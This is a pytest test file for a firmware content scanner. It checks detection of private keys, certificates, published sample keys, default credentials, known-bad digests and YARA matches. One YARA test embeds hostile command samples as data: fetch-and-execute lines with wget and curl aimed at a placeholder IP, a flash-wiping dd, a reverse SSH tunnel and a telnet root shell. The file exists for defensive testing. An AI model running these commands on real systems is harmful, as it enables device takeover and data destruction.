"""What is found inside an image, with keys, certificates and archives made by openssl, ssh-keygen, gpg, …"""

import base64
import gzip
import hashlib
import json
import lzma
import os
import random
import re
import subprocess
import tarfile
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import serialization

from portal.errors import RulesError
from portal.verification import (
    ContentReport,
    ContentRules,
    Outcome,
    examine_content,
    load_rules,
    own_rules,
    published_key,
)
from tests.unit.verification.conftest import AT, Keys, run

VECTORS = Path(__file__).parents[2] / "vectors" / "mcuboot"
PIECE = 256 << 10  # pieces that the verifier looks at by themselves
NOTHING = ContentRules()


def noise(size: int, seed: int = 1) -> bytes:
    return random.Random(seed).randbytes(size)


def examine(
    tmp_path: Path, data: bytes, rules: ContentRules = NOTHING, at: float | None = None
) -> ContentReport:
    """Now, unless told: openssl makes certificates that are valid from now on."""
    path = tmp_path / "image.bin"
    path.write_bytes(data)
    return examine_content(path, rules, at=time.time() + 1 if at is None else at)


def outcomes(report: ContentReport) -> dict[str, str]:
    return {check.id.removeprefix("content."): check.outcome.value for check in report.checks}


def reason(report: ContentReport, name: str) -> str:
    return next(check.reason for check in report.checks if check.id == f"content.{name}")


def found(report: ContentReport, name: str) -> list[tuple[str, int, str]]:
    return [(f.level, f.offset, f.what) for f in report.findings if f.check == f"content.{name}"]


def fingerprint(public_pem: str) -> str:
    key = serialization.load_pem_public_key(public_pem.encode())
    spki = key.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    return f"sha256:{hashlib.sha256(spki).hexdigest()}"


def convert(keys: Keys, name: str, *options: str) -> bytes:
    """With openssl: PKCS#8, or the older forms where `options` say so."""
    return run("openssl", "pkey" if OLD[0] in options else "pkcs8", "-in", keys.private(name), *options)


PLAIN = ("-topk8", "-nocrypt")
AES = ("-topk8", "-v2", "aes-256-cbc", "-passout", "pass:nothing")
OLD = ("-traditional",)
OLD_AES = (*OLD, "-aes256", "-passout", "pass:nothing")
DER = ("-outform", "DER")

CLEAN = {
    "private_keys": "pass",
    "certificates": "not_applicable",
    "test_keys": "pass",
    "credentials": "pass",
    "known_bad": "not_applicable",
    "rules": "pass",
    "sbom": "not_applicable",
    "profile": "not_applicable",
}


def test_random_bytes_raise_no_alarm(tmp_path: Path) -> None:
    report = examine(tmp_path, noise(24 << 20), own_rules())
    assert outcomes(report) == CLEAN
    assert report.outcome is Outcome.PASS
    assert not report.findings
    profile = report.document["profile"]
    assert profile["entropy"]["bits_per_byte"] == 8.0
    assert profile["entropy"]["dense_percent"] == 100
    assert len(profile["entropy"]["buckets"]) == 256
    assert "opaque" in reason(report, "profile")
    assert "look compressed or encrypted" in reason(report, "private_keys")


@pytest.mark.parametrize("library", ["libcrypto.so.3", "libssl.so.3", "libc.so.6"])
def test_a_real_library_raises_no_alarm(library: str) -> None:
    """They hold the first and last lines of all PEM kinds, OIDs of keys, and words about passwords."""
    path = next((p for p in Path("/usr/lib").glob(f"*/{library}")), None)
    if path is None:
        pytest.skip(f"{library} is not installed")
    report = examine_content(path, own_rules(), at=AT)
    assert outcomes(report) == CLEAN
    assert {"offset": 0, "what": "ELF object"} in report.document["profile"]["members"]


def test_an_empty_file_is_looked_through(tmp_path: Path) -> None:
    report = examine(tmp_path, b"", own_rules())
    assert outcomes(report) == CLEAN
    assert report.document["size"] == 0


# --- private keys -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "options", "words"),
    [
        ("rsa-2048", PLAIN, "an unprotected private key (RSA-2048, PKCS#8)"),
        ("rsa-2048", (*PLAIN, *DER), "an unprotected private key (RSA-2048, PKCS#8)"),
        ("rsa-3072", OLD, "an unprotected private key (RSA-3072, PKCS#1)"),
        ("rsa-1024", (*OLD, *DER), "an unprotected private key (RSA-1024, PKCS#1)"),
        ("p256", PLAIN, "an unprotected private key (EC P-256, PKCS#8)"),
        ("p256", (*PLAIN, *DER), "an unprotected private key (EC P-256, PKCS#8)"),
        ("p384", OLD, "an unprotected private key (EC P-384, SEC1)"),
        ("p256", (*OLD, *DER), "an unprotected private key (EC P-256, SEC1)"),
        ("p521", (*OLD, *DER), "an unprotected private key (EC P-521, SEC1)"),
        ("ed25519", PLAIN, "an unprotected private key (Ed25519, PKCS#8)"),
        ("ed25519", (*PLAIN, *DER), "an unprotected private key (Ed25519, PKCS#8)"),
    ],
)
def test_a_private_key_is_found_and_never_shown(
    tmp_path: Path, keys: Keys, name: str, options: tuple[str, ...], words: str
) -> None:
    key = convert(keys, name, *options)
    report = examine(tmp_path, noise(9001) + key + noise(5000))
    assert found(report, "private_keys") == [("fail", 9001, words)]
    assert outcomes(report)["private_keys"] == "fail"
    finding = report.findings[0]
    assert finding.facts["public_key"] == fingerprint(keys.public(name))
    assert finding.length in (len(key), len(key) - 1)
    secret = serialization.load_pem_private_key(keys.private(name).read_bytes(), None)
    plain = secret.private_bytes(
        serialization.Encoding.DER, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    tail = plain[-24:]
    for shown in (tail.hex(), base64.b64encode(tail).decode(), repr(tail)):
        assert shown not in report.document_json


@pytest.mark.parametrize("options", [AES, (*AES, *DER), OLD_AES], ids=["pkcs8-pem", "pkcs8-der", "rfc1421"])
def test_an_encrypted_private_key_is_told_apart(tmp_path: Path, keys: Keys, options: tuple[str, ...]) -> None:
    report = examine(tmp_path, noise(777) + convert(keys, "rsa-2048", *options))
    [(level, offset, what)] = found(report, "private_keys")
    assert (level, offset) == ("warn", 777)
    assert what.startswith("an encrypted private key (")


@pytest.mark.parametrize(("kind", "passphrase"), [("ed25519", ""), ("rsa", ""), ("ecdsa", "nothing")])
def test_an_openssh_key_is_found(tmp_path: Path, kind: str, passphrase: str) -> None:
    key = tmp_path / "id"
    run("ssh-keygen", "-q", "-t", kind, "-N", passphrase, "-f", key)
    shown = run("ssh-keygen", "-lf", f"{key}.pub").decode().split()[1]
    armoured = key.read_bytes()
    raw = base64.b64decode(b"".join(armoured.splitlines()[1:-1]))
    for data in (armoured, raw):
        report = examine(tmp_path, noise(100) + data)
        [finding] = [f for f in report.findings if f.check == "content.private_keys"]
        assert (finding.level, finding.offset) == ("warn" if passphrase else "fail", 100)
        assert finding.facts["public_key"] == shown
        assert finding.facts["form"] == "OpenSSH"


@pytest.mark.parametrize(("algorithm", "passphrase"), [("rsa2048", ""), ("ed25519", ""), ("rsa2048", "x")])
def test_an_openpgp_secret_key_is_found(tmp_path: Path, algorithm: str, passphrase: str) -> None:
    home = tmp_path / "gpg"
    home.mkdir(mode=0o700)
    gpg = (
        "gpg",
        "--homedir",
        str(home),
        "--batch",
        "--pinentry-mode",
        "loopback",
        "--passphrase",
        passphrase,
    )
    run(*gpg, "--quick-generate-key", "firmware@example.net", algorithm, "sign", "never")
    armoured = run(*gpg, "--armor", "--export-secret-keys")
    subprocess.run(["gpgconf", "--homedir", home, "--kill", "all"], check=False)
    report = examine(tmp_path, noise(64) + armoured)
    [finding] = [f for f in report.findings if f.check == "content.private_keys"]
    assert (finding.level, finding.offset) == ("warn" if passphrase else "fail", 64)
    assert finding.facts["form"] == "OpenPGP"


def test_a_key_in_one_line_of_a_settings_file_is_found(tmp_path: Path, keys: Keys) -> None:
    line = json.dumps({"key": convert(keys, "p256", *PLAIN).decode()}).encode()
    report = examine(tmp_path, b"settings = " + line)
    assert [level for level, _, _ in found(report, "private_keys")] == ["fail"]


@pytest.mark.parametrize("before", [PIECE - 1, PIECE - 5, PIECE - 11, PIECE - 200, PIECE, 2 * PIECE - 7])
def test_nothing_is_missed_where_two_pieces_meet(tmp_path: Path, keys: Keys, before: int) -> None:
    for options in (PLAIN, (*PLAIN, *DER)):
        report = examine(tmp_path, bytes(before) + convert(keys, "rsa-2048", *options) + bytes(10))
        assert [offset for _, offset, _ in found(report, "private_keys")] == [before]


def test_what_only_looks_like_a_key_is_none(tmp_path: Path, keys: Keys) -> None:
    pkcs8, pkcs1 = convert(keys, "rsa-2048", *PLAIN, *DER), convert(keys, "rsa-2048", *OLD, *DER)
    sec1 = convert(keys, "p256", *OLD, *DER)
    lines = convert(keys, "rsa-2048", *PLAIN).splitlines()
    fakes = [
        pkcs8[:100] + noise(1200),
        pkcs8[:600],
        pkcs1[:-400] + bytes([pkcs1[-400] ^ 1]) + pkcs1[-399:],  # another prime
        pkcs1[:12] + noise(1300),
        sec1[:7] + bytes(32) + sec1[39:],  # the scalar 0
        b"-----BEGIN RSA PRIVATE KEY-----\0-----END RSA PRIVATE KEY-----\0",
        b"-----BEGIN PRIVATE KEY-----\n" + b"\n".join(lines[1:5]) + b"\n-----END PRIVATE KEY-----\n",
        b"\n".join(lines[:-1]),
        b"openssh-key-v1\0" + noise(300),
    ]
    report = examine(tmp_path, b"".join(fake + noise(300, seed) for seed, fake in enumerate(fakes)))
    assert found(report, "private_keys") == []


def test_places_beyond_the_budget_are_told_and_do_not_pass(tmp_path: Path) -> None:
    report = examine(tmp_path, b"-----BEGIN RSA PRIVATE KEY-----\n" * 30_000)
    assert outcomes(report)["private_keys"] == "unreadable"
    assert "10000 places were not looked at" in reason(report, "private_keys")


# --- certificates -------------------------------------------------------------------------------------------


def certificate(keys: Keys, name: str, subject: str, *options: str) -> bytes:
    return run("openssl", "req", "-x509", "-new", "-key", keys.private(name), "-subj", subject, *options)


@pytest.mark.parametrize("form", ["PEM", "DER"])
def test_a_good_certificate_is_listed_without_a_warning(tmp_path: Path, keys: Keys, form: str) -> None:
    made = certificate(keys, "p256", "/O=Nordhaven Cells/CN=Device root", "-days", "9000", "-outform", form)
    report = examine(tmp_path, noise(321) + made)
    assert outcomes(report)["certificates"] == "pass"
    [listed] = report.document["certificates"]
    read = x509.load_pem_x509_certificate(made) if form == "PEM" else x509.load_der_x509_certificate(made)
    assert listed["offset"] == 321
    assert listed["encoding"] == form
    assert listed["fingerprint"] == f"sha256:{read.fingerprint(read.signature_hash_algorithm).hex()}"  # type: ignore[arg-type]
    assert listed["key_fingerprint"] == fingerprint(keys.public("p256"))
    assert listed["not_after"] == read.not_valid_after_utc.strftime("%Y-%m-%dT%H:%M:%SZ")
    assert "Device root" in listed["subject"]
    assert listed["concerns"] == []


@pytest.mark.parametrize(
    ("name", "subject", "options", "after", "words"),
    [
        ("p256", "/CN=Root", ("-days", "30"), 40 * 86400, "expired on"),
        ("p256", "/CN=Root", ("-days", "100"), 0, "expires within a year"),
        ("p256", "/CN=Root", ("-days", "9000"), -40 * 86400, "is not valid before"),
        ("rsa-1024", "/CN=Root", ("-days", "9000"), 0, "has a key of RSA-1024"),
        ("p256", "/CN=Test Root CA", ("-days", "9000"), 0, 'has the word "test" in its name'),
        ("p256", "/CN=x/O=Internet Widgits Pty Ltd", ("-days", "9000"), 0, "internet widgits"),
        (
            *("p256", "/CN=Root"),
            *(("-days", "9000", "-addext", "basicConstraints=critical,CA:FALSE"), 0),
            "is signed by itself",
        ),
    ],
)
def test_what_a_reviewer_should_know_of_a_certificate_is_a_warning(
    tmp_path: Path, keys: Keys, name: str, subject: str, options: tuple[str, ...], after: float, words: str
) -> None:
    made = certificate(keys, name, subject, *options, "-outform", "DER")
    report = examine(tmp_path, made, at=time.time() + after)
    [(level, _, what)] = found(report, "certificates")
    assert level == "warn"
    assert words in what


def test_a_certificate_signed_over_sha1_is_a_warning(tmp_path: Path, keys: Keys) -> None:
    request = run("openssl", "req", "-new", "-key", keys.private("rsa-2048"), "-subj", "/CN=Device 17")
    (tmp_path / "request.pem").write_bytes(request)
    (tmp_path / "root.pem").write_text(keys.certificate("p256"))
    made = run(
        *("openssl", "x509", "-req", "-in", tmp_path / "request.pem", "-CA", tmp_path / "root.pem"),
        *("-CAkey", keys.private("p256"), "-set_serial", "17", "-days", "9000", "-sha1"),
    )
    [(_, _, what)] = found(examine(tmp_path, made), "certificates")
    assert "is signed over SHA-1, which can be forged" in what


@pytest.mark.parametrize(
    "name", ["DO NOT TRUST - Sample PK", "Do Not Ship", "snakeoil", "Snake Oil Ltd", "DO-NOT-USE"]
)
def test_a_name_that_forbids_its_use_fails(tmp_path: Path, keys: Keys, name: str) -> None:
    made = certificate(keys, "p256", f"/CN={name}", "-days", "9000", "-outform", "DER")
    report = examine(tmp_path, made)
    assert outcomes(report)["test_keys"] == "fail"


@pytest.mark.parametrize(
    "name", ["Testo Energy", "latest", "Contest Winner", "Greatest Cells", "Demonstrator"]
)
def test_a_name_that_only_contains_such_letters_does_not(tmp_path: Path, keys: Keys, name: str) -> None:
    made = certificate(keys, "p256", f"/CN={name}", "-days", "9000")
    assert outcomes(examine(tmp_path, made))["certificates"] == "pass"


def test_a_bundle_of_authorities_is_read_whole(tmp_path: Path) -> None:
    bundle = Path("/etc/ssl/certs/ca-certificates.crt")
    if not bundle.exists():
        pytest.skip("ca-certificates is not installed")
    expected = bundle.read_text().count("BEGIN CERTIFICATE")
    check = next(c for c in examine_content(bundle, NOTHING, at=AT).checks if c.id.endswith("certificates"))
    document = examine_content(bundle, NOTHING, at=AT).document
    assert len(document["certificates"]) == min(expected, 200)
    assert check.outcome in (Outcome.WARN, Outcome.PASS)


# --- published keys -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["root-rsa-2048", "root-rsa-3072", "root-ec-p256", "root-ed25519"])
def test_a_published_key_is_found_in_every_form(tmp_path: Path, name: str) -> None:
    pem = (VECTORS / f"{name}.pub.pem").read_text()
    key: Any = serialization.load_pem_public_key(pem.encode())
    der = key.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    forms = {"pem": pem.encode(), "der": der, "bare": der[-64:] if "rsa" not in name else b""}
    if "rsa" in name:
        forms["pkcs1"] = key.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.PKCS1)
        forms["bare"] = key.public_numbers().n.to_bytes(key.key_size // 8, "big")
        forms["hash"] = hashlib.sha256(forms["pkcs1"]).digest()
    else:
        forms["bare"] = der[-64:] if "p256" in name else der[-32:]
        forms["hash"] = hashlib.sha256(der).digest()
    assert published_key(fingerprint(pem)) == f"MCUboot sample key ({pem_name(name)})"
    for form, data in forms.items():
        report = examine(tmp_path, noise(1234) + data + noise(100))
        assert outcomes(report)["test_keys"] == "fail", form
        what = reason(report, "test_keys")
        assert "MCUboot sample key" in what
        assert "anybody can sign with it" in what


def pem_name(name: str) -> str:
    return {"root-ec-p256": "root-ec-p256-pkcs8.pem"}.get(name, f"{name}.pem")


def test_a_key_of_ones_own_is_no_published_one(tmp_path: Path, keys: Keys) -> None:
    assert published_key(fingerprint(keys.public("p256"))) is None
    report = examine(tmp_path, keys.public("p256").encode())
    assert outcomes(report)["test_keys"] == "pass"
    [public] = report.document["public_keys"]
    assert public["fingerprint"] == fingerprint(keys.public("p256"))


# --- credentials --------------------------------------------------------------------------------------------


def test_built_in_credentials_are_warned_of_with_their_place(tmp_path: Path) -> None:
    hashed = run("openssl", "passwd", "-6", "-salt", "batterie", "root").decode().strip()
    lines = [
        f"root:{hashed}:19000:0:99999:7:::",
        "login admin:admin",
        "mqtt_password=Zell3n#2026",
        "rocommunity public",
        "/usr/sbin/telnetd -l /bin/sh",
        "JTAG unlocked",
        "SharedAccessKey=" + base64.b64encode(noise(32)).decode(),
    ]
    data = noise(4000) + b"\0".join(line.encode() for line in lines) + noise(4000)
    report = examine(tmp_path, data)
    assert outcomes(report)["credentials"] == "warn"
    rules = {f.facts["rule"] for f in report.findings if f.check == "content.credentials"}
    assert rules == {
        *("password_hash", "default_login", "password_assigned", "snmp_community"),
        *("telnet_server", "debug_door", "cloud_device_key"),
    }
    for secret in (hashed.split("$")[3], "Zell3n#2026", base64.b64encode(noise(32)).decode()):
        assert secret not in report.document_json
    shown = next(f for f in report.findings if f.facts.get("rule") == "default_login")
    assert data[shown.offset :].startswith((b" admin:admin", b"admin:admin"))


# --- known bad digests --------------------------------------------------------------------------------------


def test_a_known_bad_digest_fails_the_file_and_what_is_in_it(tmp_path: Path, keys: Keys) -> None:
    made = certificate(keys, "p256", "/CN=Root", "-days", "9000", "-outform", "DER")
    data = noise(50) + made
    for digest in (
        hashlib.sha256(data).hexdigest(),
        hashlib.sha256(made).hexdigest(),
        fingerprint(keys.public("p256")).removeprefix("sha256:"),
    ):
        rules = ContentRules(known_bad=(digest, "00" * 32))
        report = examine(tmp_path, data, rules)
        assert outcomes(report)["known_bad"] == "fail"
        assert report.findings[0].facts["sha256"] == digest
    assert outcomes(examine(tmp_path, data, ContentRules(known_bad=("00" * 32,))))["known_bad"] == "pass"


# --- YARA ---------------------------------------------------------------------------------------------------

RULE = """
rule modem : radio {
    meta:
        description = "a modem"
        severity = "fail"
    strings:
        $a = "AT+QIOPEN"
        $b = { DE AD ?? EF }
    condition:
        all of them
}
"""


def test_a_rule_matches_with_its_places(tmp_path: Path) -> None:
    data = noise(1000) + b"AT+QIOPEN" + noise(1000) + b"\xde\xad\x00\xef"
    report = examine(tmp_path, data, ContentRules(files=(("radio.yar", RULE),)))
    assert outcomes(report)["rules"] == "fail"
    [finding] = [f for f in report.findings if f.check == "content.rules"]
    assert finding.facts["rule"] == "modem"
    assert finding.facts["file"] == "radio.yar"
    assert [(m["offset"], m["string"]) for m in finding.facts["matches"]] == [(1000, "$a"), (2009, "$b")]
    assert "the rule modem matches: a modem" in reason(report, "rules")


def test_a_large_image_is_matched_in_regions_that_overlap(tmp_path: Path) -> None:
    data = bytearray(40 << 20)
    data[(8 << 20) - 4 : (8 << 20) + 5] = b"AT+QIOPEN"
    data[-4:] = b"\xde\xad\x00\xef"
    report = examine(tmp_path, bytes(data), ContentRules(files=(("radio.yar", RULE),)))
    [finding] = [f for f in report.findings if f.check == "content.rules"]
    assert [m["offset"] for m in finding.facts["matches"]] == [(8 << 20) - 4, (40 << 20) - 4]


def test_rules_that_do_not_compile_name_file_and_line(tmp_path: Path) -> None:
    with pytest.raises(RulesError, match=r"^rules buyer\.yar:4:"):
        examine(tmp_path, b"x", ContentRules(files=(("buyer.yar", "rule a {\n  condition:\n  true\n}}"),)))


@pytest.mark.parametrize(
    "text", ['include "/etc/passwd"', 'import "time"', 'import "console"', 'import "pe"']
)
def test_rules_may_not_read_anything_else(tmp_path: Path, text: str) -> None:
    with pytest.raises(RulesError):
        examine(tmp_path, b"x", ContentRules(files=(("buyer.yar", f"{text}\nrule a {{ condition: true }}"),)))


def test_the_same_matches_as_yara(tmp_path: Path) -> None:
    """The original YARA on the same rules and bytes."""
    if not any((Path(folder) / "yara").exists() for folder in os.get_exec_path()):
        pytest.skip("yara is not installed")
    rules = own_rules()
    (tmp_path / "all.yar").write_text("\n".join(text for _, text in rules.files))
    texts = [
        b"AT+CGDCONT=1\r\nAT+CGATT=1\r\n",
        b"wget http://192.0.2.1/x -O /tmp/x; chmod 777 /tmp/x; /tmp/x\n",
        b"curl -s http://192.0.2.1/x | sh\n",
        b"dd if=/dev/zero of=/dev/mtd0\n",
        b"curl --insecure https://192.0.2.1/\n",
        b"menu: disable cell over-voltage protection; BYPASS OVP LIMIT\n",
        b"ssh -N -R 2222:localhost:22 user@192.0.2.1\n",
        b"server_addr = 192.0.2.1\n[common]\n",
        b"nothing at all",
    ]
    matched = set()
    for number, text in enumerate(texts):
        path = tmp_path / f"{number}.bin"
        path.write_bytes(noise(5000, number) + b"\0" + text + b"\0" + noise(5000, number + 50))
        theirs = {
            line.split()[0] for line in run("yara", "-w", tmp_path / "all.yar", path).decode().splitlines()
        }
        report = examine_content(path, rules, at=AT)
        ours = {f.facts["rule"] for f in report.findings if f.check == "content.rules"}
        assert ours == theirs, text
        matched |= ours
    assert len(matched) >= 6


def test_the_buyers_folder_adds_rules_and_digests(tmp_path: Path) -> None:
    folder = tmp_path / "rules"
    folder.mkdir()
    (folder / "radio.yar").write_text(RULE)
    (folder / "notes.txt").write_text("not a rule")
    (folder / "known-bad.txt").write_text(f"# recalled\n{'AB' * 32}  old.bin\n\n")
    rules = load_rules(folder)
    assert [name for name, _ in rules.files] == ["lotgate.yar", "radio.yar"]
    assert rules.known_bad == ("ab" * 32,)
    assert load_rules(None) == own_rules()
    (folder / "known-bad.txt").write_text("fine\n")
    with pytest.raises(RulesError, match="line 1: expected 64 hexadecimal digits"):
        load_rules(folder)
    with pytest.raises(RulesError, match="rules folder"):
        load_rules(tmp_path / "none")


# --- profile ------------------------------------------------------------------------------------------------


def test_the_profile_names_what_it_was_built_from(tmp_path: Path) -> None:
    texts = [
        b"GCC: (Debian 12.2.0-14) 12.2.0",
        b"U-Boot 2024.01 (Mar 04 2026 - 10:00:00 +0000)",
        b"https://updates.nordhaven.example/v2/firmware",
        b"/home/build/bms/src/charger.c",
        b"support@nordhaven.example",
    ]
    data = b"\0".join(texts) + bytes(100_000) + noise(100_000)
    profile = examine(tmp_path, data).document["profile"]
    kinds = {entry["text"]: entry["kind"] for entry in profile["strings"]}
    assert kinds == {
        "GCC: (Debian 12.2.0-14) 12.2.0": "built with",
        "U-Boot 2024.01 (Mar 04 2026 - 10:00:00 +0000)": "component",
        "https://updates.nordhaven.example/v2/firmware": "address",
        "/home/build/bms/src/charger.c": "build path",
        "support@nordhaven.example": "e-mail",
    }
    for entry in profile["strings"]:
        assert data[entry["offset"] :].startswith(entry["text"].encode())
    buckets = profile["entropy"]["buckets"]
    assert min(buckets) == 0.0
    assert max(buckets) > 7.7


def test_telling_strings_leave_secrets_out(tmp_path: Path) -> None:
    texts = [
        b"service password=Zell3n#2026 U-Boot 2023.01 (Jan 01 2023)",
        b"mqtts://charger:hunter22@broker.nordhaven.example/v1.2",
        b'{"version": "1.4.2", "api_key": "d41d8cd98f00b204", "psk": "Sup3rS3cret1"}',
        b"version 1.4.2 " + b"x" * 200 + b" api_key=d41d8cd98f00b204 version 3.1",
    ]
    report = examine(tmp_path, b"\0".join(texts) + noise(4000))
    shown = [entry["text"] for entry in report.document["profile"]["strings"]]
    assert "service password=<11 characters> U-Boot 2023.01 (Jan 01 2023)" in shown
    assert any("mqtts://charger:<8 characters>@broker" in text for text in shown), shown
    for secret in ("Zell3n#2026", "hunter22", "d41d8cd98f00b204", "Sup3rS3cret1"):
        assert secret not in report.document_json


def test_members_are_recognised_beyond_their_first_bytes(tmp_path: Path) -> None:
    (tmp_path / "a").write_bytes(b"battery" * 1000)
    with zipfile.ZipFile(tmp_path / "zip", "w") as archive:
        archive.write(tmp_path / "a", "a")
    with tarfile.open(tmp_path / "tar", "w") as tar:
        tar.add(tmp_path / "a", "a")
    parts = {
        "gzip stream": gzip.compress(b"battery" * 99),
        "XZ stream": lzma.compress(b"battery" * 99),
        "ZIP archive member": (tmp_path / "zip").read_bytes(),
        "tar archive member": (tmp_path / "tar").read_bytes(),
    }
    data = b""
    for part in parts.values():
        data += bytes(1024) + part
    decoys = b"\x1f\x8b\x08\x00" + b"\xff" * 60 + b"hsqs" + b"\x7fELF" + b"\0" * 40 + b"PK\x03\x04\xff\xff"
    members = examine(tmp_path, data + bytes(64) + decoys).document["profile"]["members"]
    assert {member["what"] for member in members} == set(parts)
    assert members[0] == {"offset": 1024, "what": "gzip stream"}


def test_the_report_says_where_it_looked(tmp_path: Path) -> None:
    report = examine(tmp_path, b"x" * 5000, own_rules(), AT)
    document = report.document
    assert document["version"] == 1
    assert document["at"] == "2026-11-21T12:00:00Z"
    assert document["rules"] == len(re.findall(r"^rule ", own_rules().files[0][1], re.MULTILINE))
    assert document["published_keys"] > 90
    assert [check["id"] for check in document["checks"]] == [f"content.{name}" for name in CLEAN]
